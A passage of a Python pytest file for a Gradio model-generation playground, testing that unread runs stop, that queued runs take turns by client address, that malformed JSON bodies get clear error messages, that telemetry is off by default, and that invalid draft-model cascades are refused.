        {"session_hash": event_id, "event_id": event_id, "fn_index": fn["generate"]}).encode())  # its own
    assert status == 200, text
    deadline = time.monotonic() + 30
    while event_id in dict(pacing.handed_requests()):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    reader.close()


def _reading(app_url, event_id: str):
    """A stream of a /call/generate event, opened and held (close() it)."""
    import http.client
    url = urllib.parse.urlsplit(app_url)
    reader = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    reader.request("GET", f"/gradio_api/call/generate/{event_id}")
    assert reader.getresponse().status == 200
    return reader


def test_a_run_nobody_reads_stops_and_a_late_reader_gets_what_it_wrote(app_url, monkeypatch):
    """An audit: a 300-byte POST to /call/generate whose stream was never opened held the CPU for the
    whole run (77 s for 1,500 compared tokens of the demo pair; a sweep, up to 15 minutes)."""
    from playground.ui import pacing
    monkeypatch.setattr(pacing, "UNREAD_SECONDS", 2)
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps(
        {"data": ["def f(", "demo", 4, 0.0, 1500, 0, "", "", True, "", "", "", -1]}).encode())
    event_id, deadline = json.loads(text)["event_id"], time.monotonic() + 60
    while event_id not in dict(pacing.handed_requests()):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    while event_id in dict(pacing.handed_requests()):
        assert time.monotonic() < deadline, "the unread run went on"
        time.sleep(0.1)
    result = json.loads(_late_read(app_url, event_id).split("event: complete\ndata: ")[1].split("\n")[0])[0]
    assert result["finish_reason"] == "stopped" and 0 < result["stats"]["generated_tokens"] < 1500, result
    monkeypatch.setattr(pacing, "UNREAD_SECONDS", 5)  # (1 s raced the reader's GET on a loaded host)
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps(
        {"data": ["def g(", "demo", 4, 0.0, 200, 0, "", "", True, "", "", "", -1]}).encode())
    read = _late_read(app_url, json.loads(text)["event_id"])  # read at once: it runs to its end
    result = json.loads(read.split("event: complete\ndata: ")[1].split("\n")[0])[0]
    assert result["finish_reason"] == "length" and result["stats"]["generated_tokens"] == 200, result


def test_runs_waiting_for_the_device_take_turns_by_address():
    """An audit: first come, first served, one address's three queued runs all went before a newcomer's
    (85 s behind three 1,000-token runs of the demo pair)."""
    from types import SimpleNamespace as Obj

    def event(address: str, name: str):
        request = Obj(headers={"x-forwarded-for": address}, client=Obj(host="127.0.0.1", port=1))
        return Obj(request=request, concurrency_id=addresses.DEVICE, name=name)
    waiting = [event("192.0.2.1", "a2"), event("192.0.2.1", "a3"), event("192.0.2.2", "b1"), event("192.0.2.3", "c1"),
               event("192.0.2.2", "b2"), event("192.0.2.1", "a4"), event("192.0.2.4", "d1")]
    queue = Obj(event_queue_per_concurrency_id={addresses.DEVICE: Obj(queue=waiting)},
                active_jobs=[[event("192.0.2.1", "a1")], None])
    assert addresses.take_turns(queue)
    assert [e.name for e in waiting] == ["b1", "c1", "d1", "a2", "b2", "a3", "a4"]
    assert not addresses.take_turns(queue)  # in turns already: as it was
    assert [e.name for e in waiting] == ["b1", "c1", "d1", "a2", "b2", "a3", "a4"]
    assert not addresses.take_turns(Obj(event_queue_per_concurrency_id={}, active_jobs=[]))  # nothing waiting
    import asyncio
    from playground.ui import serving
    told, sent = [], []  # a reorder tells every waiting run its new place (each kept the one told as it joined:
    queue.broadcast_estimations = told.append  # a newcomer put first read "3rd of 3"; a review)

    async def send(message):
        sent.append(message)
    waiting[:] = [event("192.0.2.1", "a2"), event("192.0.2.2", "b1")]
    for order in (["b1", "a2"], ["b1", "a2"]):  # (the second answer finds them in turns: no one told again)
        asyncio.run(serving._in_turns(queue, send)({"type": "http.response.start"}))
        assert [e.name for e in waiting] == order
    assert told == [addresses.DEVICE] and len(sent) == 2


def test_a_run_stopped_while_it_waits_is_given_way_to_by_no_one():
    """A run stopped while it waited stayed in the queue and was counted as waiting: a sweep gave way to it at its
    share time (its remaining points lost) and the run then ended at once, having written nothing (a review)."""
    from types import SimpleNamespace as Obj
    from gradio.context import LocalContext
    from playground.ui.files import forget_stop, request_stop

    def event(session: str, job: str):
        return Obj(session_hash=session, fn=Obj(api_name=job), concurrency_id=addresses.DEVICE)
    waiting = [event("stoppedrun1", "run"), event("stoppedswp1", "sweep"), event("livingrun01", "run"),
               event("stoppedrun1", "generate")]  # (an API run has no Stop flag: it is cancelled, and leaves)
    lane = Obj(queue=waiting, concurrency_limit=1, current_concurrency=1)
    token = LocalContext.blocks.set(Obj(_queue=Obj(event_queue_per_concurrency_id={addresses.DEVICE: lane})))
    try:
        assert addresses.device_waiting() == 4
        request_stop(Obj(session_hash="stoppedrun1"), "run")
        request_stop(Obj(session_hash="stoppedswp1"), "sweep")
        request_stop(Obj(session_hash="livingrun01"), "sweep")  # (another job of its session: not this run)
        assert addresses.device_waiting() == 2
    finally:
        LocalContext.blocks.reset(token)
        for session, job in (("stoppedrun1", "run"), ("stoppedswp1", "sweep"), ("livingrun01", "sweep")):
            forget_stop(Obj(session_hash=session), job)


def test_a_newcomers_run_waits_behind_no_second_run_of_another_address(app_url, monkeypatch):
    """The join's guard puts the device's queue in turns (take_turns above) as each run joins."""
    import threading

    import app
    from playground.ui import live, pacing
    fn = {d.get("api_name"): d["id"] for d in Client(app_url, verbose=False).config["dependencies"]}
    release, real_prepare = threading.Event(), live.prepare

    def held_prepare(*args, **kwargs):  # the device busy with the first run
        release.wait(60)
        return real_prepare(*args, **kwargs)
    monkeypatch.setattr(live, "prepare", held_prepare)
    args = lambda i: [f"def f{i}(", "demo", 4, 0.0, 8, 0, "", "", False, "", "", "", -1]
    try:
        first = json.loads(_join(app_url, fn["generate"], args(0), "192.0.2.61")[1])["event_id"]
        deadline = time.monotonic() + 30
        while first not in dict(pacing.handed_requests()):
            assert time.monotonic() < deadline
            time.sleep(0.02)
        joined = [json.loads(_join(app_url, fn["generate"], args(i), address)[1])["event_id"]
                  for i, address in ((1, "192.0.2.61"), (2, "192.0.2.61"), (3, "192.0.2.62"))]
        queue = app.demo._queue
        waiting = [e._id for e in queue.event_queue_per_concurrency_id[addresses.DEVICE].queue]
        assert waiting == [joined[2], joined[0], joined[1]], (waiting, joined, [
            (e._id, e.concurrency_id, addresses.address_of(e.request)) for job in queue.active_jobs if job for e in job],
            [addresses.address_of(e.request) for e in queue.event_queue_per_concurrency_id[addresses.DEVICE].queue])
    finally:
        release.set()
    deadline = time.monotonic() + 120
    while any(e in app.demo._queue.event_ids_to_events for e in [first, *joined]):
        assert time.monotonic() < deadline
        time.sleep(0.1)


@pytest.mark.parametrize("body, said", [
    (b'{"prompt":"\xff\xfe","preset":"demo"}', "the request's body is not UTF-8 text (JSON is): byte 12 is 0xff"),
    (b'{"k":1' + b"0" * 5000 + b"}", "a number of more than 4,300 digits"),
    (b'{"prompt":' + b"[" * 5000 + b"]" * 5000 + b"}", "nests its arrays and objects too deeply"),
    (b'{"prompt": "x",}', "the request's body is not JSON: Expecting property name enclosed in double quotes at line 1"),
    (b'{"prompt": "\\u00e9", "k": 3', "the request's body is not JSON: Expecting ',' delimiter"),  # (read in the worker)
])
def test_a_body_that_is_no_json_is_said_why(app_url, body, said):
    """Short bodies Python could not read got Gradio's "There was an error parsing the body" (a review of the
    API): the caller is told the byte, the place, or the limit."""
    status, text = post(app_url, "/gradio_api/call/v2/generate", body)
    assert status == 400 and said in json.loads(text)["detail"], text
    assert page_answers_quickly(app_url)


def test_the_page_sends_gradio_no_telemetry_unless_the_host_asks():
    """A review: Gradio's analytics were on (its version check and launch report fetched URLs at start-up) on a
    Space that promises nothing it serves fetches one; off unless GRADIO_ANALYTICS_ENABLED is set."""
    import subprocess
    import sys
    env = {k: v for k, v in os.environ.items() if k != "GRADIO_ANALYTICS_ENABLED"}
    said = subprocess.run([sys.executable, "-c", "from playground.ui import page; print(page.demo.analytics_enabled)"],
                          capture_output=True, text=True, env=env, timeout=300)
    assert said.stdout.strip().splitlines()[-1] == "False", said.stderr[-2000:]


def test_a_host_allowing_any_model_refuses_a_draft_that_is_no_cascade():
    """generate and export refused an empty or nested cascade before loading; Run, Share link, the Export tab and
    /generate checked only the host's model list, which a host allowing any model (PLAYGROUND_ALLOW_CUSTOM_MODELS=1)
    lets past (a structure review)."""
    from playground.presets import Settings, get_preset
    from playground.ui import live
    demo = Settings.from_preset(get_preset("demo"))
    for draft in ("ngram+", "ngram+ngram+demo-draft", "ngram+ngram"):
        with pytest.raises(PlaygroundError, match="is no cascade: write 'ngram\\+' then one draft model"):
            live.checked_config(dataclasses.replace(demo, draft=draft), allow_custom=True)
    live.checked_config(dataclasses.replace(demo, draft="ngram+demo-draft"), allow_custom=True)  # a cascade: taken
